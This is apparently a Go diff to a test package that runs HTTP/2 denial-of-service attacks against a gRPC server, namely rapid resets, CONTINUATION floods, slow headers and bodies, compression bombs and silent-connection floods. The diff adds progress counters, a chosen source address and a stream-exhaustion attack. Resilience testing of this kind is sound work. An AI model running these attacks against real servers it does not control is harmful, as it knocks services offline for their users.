@@ -1,7 +1,8 @@
 // Package attack does to a server what strangers do to take it from others, for tests. Each
 // attack goes on over HTTP/2 without TLS until its context ends.
 //
-//	attack.Target{Addr: addr, Path: "/acme.v1.Library/Get", Tokens: tokens}.Run(ctx, attack.Resets)
+//	var progress attack.Progress
+//	attack.Target{Addr: addr, Path: "/acme.v1.Library/Get", Tokens: tokens}.Run(ctx, attack.Resets, &progress)
 package attack
 
 import (
@@ -19,8 +20,11 @@ import (
 
 // A Target is what is attacked.
 type Target struct {
-	// Addr is the port, and Path a unary method of gRPC.
+	// Addr is the port, and Path a method of gRPC: a unary one, or for Streams one of a server's
+	// stream.
 	Addr, Path string
+	// From is the IP address that connections come from, or empty for any.
+	From string
 	// Tokens are what the caller has: of as many subjects as it can.
 	Tokens []string
 	// Forged is a token whose signature does not match.
@@ -29,23 +33,24 @@ type Target struct {
 	Bomb []byte
 }
 
-// An Attack is one caller's. It returns when its connection, or the context, has ended.
+// An Attack is that of a caller, on several connections. It returns when its connection, or the context, has ended.
 type Attack struct {
-	Name    string
-	callers int // at once
-	run     func(context.Context, Target) error
+	Name     string
+	callers  int   // at once
+	underWay int64 // how much it has sent then
+	run      func(context.Context, Target, *Progress) error
 }
 
 // The attacks.
 var (
-	Resets        = Attack{"resets", 2, resets}
-	Continuations = Attack{"CONTINUATION without end", 2, continuations}
-	SlowHeaders   = Attack{"slow headers", 100, slowHeaders}
-	SlowBodies    = Attack{"slow bodies", 8, slowBodies}
-	Bombs         = Attack{"compression bombs", 2, calls(Target.bomb)}
-	Silent        = Attack{"silent connections", 200, silent}
-	Forged        = Attack{"forged tokens", 2, calls(Target.forged)}
-	ManySubjects  = Attack{"many subjects", 2, calls(Target.subjects)}
+	Resets        = Attack{"resets", 2, 1000, resets}
+	Continuations = Attack{"CONTINUATION without end", 2, 100, continuations}
+	SlowHeaders   = Attack{"slow headers", 200, 400, slowHeaders}
+	SlowBodies    = Attack{"slow bodies", 8, 1600, slowBodies}
+	Bombs         = Attack{"compression bombs", 2, 10, calls(Target.bomb)}
+	Silent        = Attack{"silent connections", 200, 200, silent}
+	Forged        = Attack{"forged tokens", 2, 1000, calls(Target.forged)}
+	ManySubjects  = Attack{"many subjects", 2, 1000, calls(Target.subjects)}
 )
 
 // All returns every attack.
@@ -53,14 +58,58 @@ func All() []Attack {
 	return []Attack{Resets, Continuations, SlowHeaders, SlowBodies, Bombs, Silent, Forged, ManySubjects}
 }
 
-// Run attacks until ctx ends. Callers whose connection was closed connect again.
-func (t Target) Run(ctx context.Context, a Attack) {
+const streamsOfConn = 200
+
+// Streams holds open many streams of the first token's subject, a multiple of 200.
+func Streams(n int) Attack { return Attack{"streams", n / streamsOfConn, int64(n), streams} }
+
+// Progress is what an attack has done so far, and what the server has made of it. The zero
+// value is nothing. It is safe for concurrent use.
+type Progress struct {
+	sent, connections, closed atomic.Int64
+
+	mu      sync.Mutex
+	answers map[string]int64
+}
+
+// UnderWay reports whether the attack has sent as much as it takes to be one.
+func (p *Progress) UnderWay(a Attack) bool { return p.Sent() >= a.underWay }
+
+// Sent returns how many frames the attack has sent that do harm, or how many connections it
+// has made that are silent.
+func (p *Progress) Sent() int64 { return p.sent.Load() }
+
+// Connections returns how many connections the attack has made.
+func (p *Progress) Connections() int64 { return p.connections.Load() }
+
+// Closed returns how many of them the server has closed.
+func (p *Progress) Closed() int64 { return p.closed.Load() }
+
+// Answers returns how many calls have ended with a status of gRPC, such as "16".
+func (p *Progress) Answers(status string) int64 {
+	p.mu.Lock()
+	defer p.mu.Unlock()
+	return p.answers[status]
+}
+
+func (p *Progress) answered(status string) {
+	p.mu.Lock()
+	defer p.mu.Unlock()
+	if p.answers == nil {
+		p.answers = make(map[string]int64)
+	}
+	p.answers[status]++
+}
+
+// Run attacks until ctx ends. Callers whose connection was closed connect again, two hundred
+// times a second in all.
+func (t Target) Run(ctx context.Context, a Attack, p *Progress) {
 	var callers sync.WaitGroup
 	for range a.callers {
 		callers.Go(func() {
 			for ctx.Err() == nil {
-				if a.run(ctx, t) != nil {
-					pause(ctx, 10*time.Millisecond)
+				if a.run(ctx, t, p) != nil {
+					pause(ctx, time.Duration(a.callers)*time.Second/200)
 				}
 			}
 		})
@@ -84,40 +133,78 @@ type conn struct {
 	next    uint32 // stream
 	block   bytes.Buffer
 	encoder *hpack.Encoder
+	began   atomic.Int64 // streams that the server has answered
 	answers atomic.Int64 // streams that the server has ended
 }
 
+func connect(ctx context.Context, t Target, p *Progress) (net.Conn, error) {
+	dialer := new(net.Dialer)
+	if t.From != "" {
+		dialer.LocalAddr = &net.TCPAddr{IP: net.ParseIP(t.From)}
+	}
+	raw, err := dialer.DialContext(ctx, "tcp", t.Addr)
+	if err == nil {
+		p.connections.Add(1)
+	}
+	return raw, err
+}
+
 // dial connects, and reads what comes until the connection ends.
-func dial(ctx context.Context, t Target) (*conn, error) {
-	raw, err := new(net.Dialer).DialContext(ctx, "tcp", t.Addr)
+func dial(ctx context.Context, t Target, p *Progress) (*conn, error) {
+	raw, err := connect(ctx, t, p)
 	if err != nil {
 		return nil, err
 	}
-	context.AfterFunc(ctx, func() { _ = raw.Close() })
+	stop := context.AfterFunc(ctx, func() { _ = raw.Close() })
 	c, err := newConn(raw, t.Path)
-	go c.drain()
+	go func() {
+		defer stop()
+		c.drain(p)
+		if ctx.Err() == nil {
+			p.closed.Add(1)
+		}
+	}()
 	return c, err
 }
+
+// window is how much the server may send before the caller takes it.
+const window = 1 << 30
 
 func newConn(raw net.Conn, path string) (*conn, error) {
 	c := &conn{Conn: raw, Framer: http2.NewFramer(raw, raw), path: path, next: 1}
 	c.encoder = hpack.NewEncoder(&c.block)
+	c.ReadMetaHeaders = hpack.NewDecoder(4096, nil)
 	_, err := io.WriteString(raw, http2.ClientPreface)
 	if err == nil {
-		err = c.WriteSettings()
+		err = c.WriteSettings(http2.Setting{ID: http2.SettingInitialWindowSize, Val: window})
+	}
+	if err == nil {
+		err = c.WriteWindowUpdate(0, window)
 	}
 	return c, err
 }
 
-func (c *conn) drain() {
+func (c *conn) drain(p *Progress) {
 	for {
 		frame, err := c.ReadFrame()
 		if err != nil {
 			_ = c.Close()
 			return
 		}
-		if frame.Header().Flags.Has(http2.FlagHeadersEndStream) && frame.Header().StreamID > 0 || frame.Header().Type == http2.FrameRSTStream {
+		switch f := frame.(type) {
+		case *http2.RSTStreamFrame:
 			c.answers.Add(1)
+		case *http2.MetaHeadersFrame:
+			c.began.Add(1)
+			if !f.StreamEnded() {
+				continue
+			}
+			c.answers.Add(1)
+			for _, header := range f.Fields {
+				if header.Name == "grpc-status" {
+					p.answered(header.Value)
+				}
+			}
 		}
 	}
 }
@@ -139,19 +226,20 @@ func (c *conn) open(token, encoding string, endHeaders bool) (uint32, error) {
 }
 
 // resets opens calls, and takes each back at once.
-func resets(ctx context.Context, t Target) error {
-	c, err := dial(ctx, t)
+func resets(ctx context.Context, t Target, p *Progress) error {
+	c, err := dial(ctx, t, p)
 	for err == nil {
 		var stream uint32
 		if stream, err = c.open(t.Tokens[0], "", true); err == nil {
 			err = c.WriteRSTStream(stream, http2.ErrCodeCancel)
+			p.sent.Add(1)
 		}
 	}
 	return err
 }
 
-func continuations(ctx context.Context, t Target) error {
-	c, err := dial(ctx, t)
+func continuations(ctx context.Context, t Target, p *Progress) error {
+	c, err := dial(ctx, t, p)
 	if err != nil {
 		return err
 	}
@@ -160,6 +248,7 @@ func continuations(ctx context.Context, t Target) error {
 		c.block.Reset()
 		_ = c.encoder.WriteField(hpack.HeaderField{Name: "x-more", Value: string(bytes.Repeat([]byte("x"), 8000))})
 		err = c.WriteContinuation(stream, false, c.block.Bytes())
+		p.sent.Add(1)
 	}
 	return err
 }
@@ -167,8 +256,8 @@ func continuations(ctx context.Context, t Target) error {
 // drip sends a byte every now and then.
 const drip = 100 * time.Millisecond
 
-func slowHeaders(ctx context.Context, t Target) error {
-	c, err := dial(ctx, t)
+func slowHeaders(ctx context.Context, t Target, p *Progress) error {
+	c, err := dial(ctx, t, p)
 	if err != nil {
 		return err
 	}
@@ -176,39 +265,69 @@ func slowHeaders(ctx context.Context, t Target) error {
 	for err == nil {
 		pause(ctx, drip)
 		err = c.WriteContinuation(stream, false, nil)
+		p.sent.Add(1)
 	}
 	return err
 }
 
-func slowBodies(ctx context.Context, t Target) error {
-	c, err := dial(ctx, t)
+func slowBodies(ctx context.Context, t Target, p *Progress) error {
+	c, err := dial(ctx, t, p)
 	var streams []uint32
 	for err == nil && len(streams) < 200 {
 		var stream uint32
 		stream, err = c.open(t.Tokens[0], "", true)
 		streams = append(streams, stream)
+		p.sent.Add(1)
 	}
 	for err == nil {
 		pause(ctx, drip)
 		for _, stream := range streams[:20] {
 			if err == nil {
 				err = c.WriteData(stream, false, []byte{0})
+				p.sent.Add(1)
 			}
 		}
 	}
 	return err
 }
 
-func silent(ctx context.Context, t Target) error {
-	raw, err := new(net.Dialer).DialContext(ctx, "tcp", t.Addr)
+func silent(ctx context.Context, t Target, p *Progress) error {
+	raw, err := connect(ctx, t, p)
 	if err != nil {
 		return err
 	}
 	stop := context.AfterFunc(ctx, func() { _ = raw.Close() })
 	defer stop()
+	p.sent.Add(1)
 	_, err = io.Copy(io.Discard, raw)
 	_ = raw.Close()
+	if ctx.Err() == nil {
+		p.closed.Add(1)
+	}
 	return err
+}
+
+// streams opens as many as a connection may have, and reads what comes.
+func streams(ctx context.Context, t Target, p *Progress) error {
+	c, err := dial(ctx, t, p)
+	for n := range int64(streamsOfConn) {
+		var stream uint32
+		if err == nil {
+			stream, err = c.open(t.Tokens[0], "", true)
+		}
+		if err == nil {
+			err = c.WriteData(stream, true, empty)
+		}
+		for err == nil && c.began.Load() <= n && ctx.Err() == nil {
+			pause(ctx, time.Millisecond)
+		}
+		p.sent.Add(1)
+	}
+	if err != nil {
+		return err
+	}
+	<-ctx.Done()
+	return ctx.Err()
 }
 
 // A request is what a caller sends: a token, and a message with its encoding.
@@ -228,9 +347,9 @@ func (t Target) subjects(n int) request { return request{t.Tokens[n%len(t.Tokens
 const maxUnread = 500
 
 // calls returns an attack by calls that are sent whole, a hundred at once if they are small.
-func calls(of func(Target, int) request) func(context.Context, Target) error {
-	return func(ctx context.Context, t Target) error {
-		c, err := dial(ctx, t)
+func calls(of func(Target, int) request) func(context.Context, Target, *Progress) error {
+	return func(ctx context.Context, t Target, p *Progress) error {
+		c, err := dial(ctx, t, p)
 		for sent := int64(0); err == nil; {
 			r := of(t, int(sent))
 			if atOnce := max(1, maxUnread/len(r.message)); sent-c.answers.Load() >= int64(atOnce) {
@@ -250,6 +369,7 @@ func calls(of func(Target, int) request) func(context.Context, Target) error {
 				err = c.WriteData(stream, len(rest) == 0, part)
 			}
 			sent++
+			p.sent.Add(1)
 		}
 		return err
 	}
